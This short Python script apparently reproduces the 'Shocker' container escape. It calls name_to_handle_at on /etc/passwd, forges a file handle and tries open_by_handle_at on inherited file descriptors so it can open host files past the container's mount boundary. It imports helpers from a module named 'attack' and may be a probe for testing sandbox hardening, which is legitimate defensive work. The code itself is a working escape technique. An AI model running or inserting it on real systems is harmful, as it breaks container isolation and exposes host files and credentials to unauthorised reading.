# Opens files by their handles, which know nothing of mounts (the way out of containers that was called Shocker).
import ctypes
import struct

from attack import call, held, libc

call("name_to_handle_at", 303, 264, -100, b"/etc/passwd", ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + b"\0" * 128), ctypes.byref(ctypes.c_int()), 0)
handle = struct.pack("Ii8s", 8, 1, struct.pack("II", 2, 0))
for fd in range(3):
    call(f"open_by_handle_at {fd}", 304, 265, fd, handle, 0)
held()
